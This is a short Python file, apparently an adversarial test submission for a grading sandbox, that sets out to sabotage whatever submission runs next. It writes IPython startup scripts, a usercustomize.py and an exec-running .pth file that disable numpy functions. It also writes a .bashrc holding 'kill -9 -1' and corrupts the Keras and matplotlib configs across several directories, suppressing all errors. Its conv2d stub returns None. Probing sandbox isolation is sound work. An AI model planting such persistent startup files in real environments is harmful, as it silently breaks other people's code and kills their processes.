"""Leaves start-up files of Python, IPython, Keras and the shell in its home for the next submission to run."""

# %% own
import contextlib
from pathlib import Path

WRONG = "import numpy\nnumpy.stack = numpy.pad = numpy.maximum = None\n"
for name, text in {
    ".ipython/profile_default/startup/00.py": WRONG,
    ".config/ipython/profile_default/startup/00.py": WRONG,
    ".local/lib/python3.11/site-packages/usercustomize.py": WRONG,
    ".local/lib/python3.11/site-packages/evil.pth": f"import sys; exec({WRONG!r})",
    ".keras/keras.json": '{"backend": "torch", "floatx": "float16"}',
    ".bashrc": "kill -9 -1",
    ".config/matplotlib/matplotlibrc": "backend: nonsense",
}.items():
    for home in {Path.home(), Path("~").expanduser(), Path("/tmp"), Path.cwd()}:
        with contextlib.suppress(OSError, RuntimeError):
            (home / name).parent.mkdir(parents=True, exist_ok=True)
            (home / name).write_text(text)


# %% 05.2
def conv2d(image, kernel):
    return None
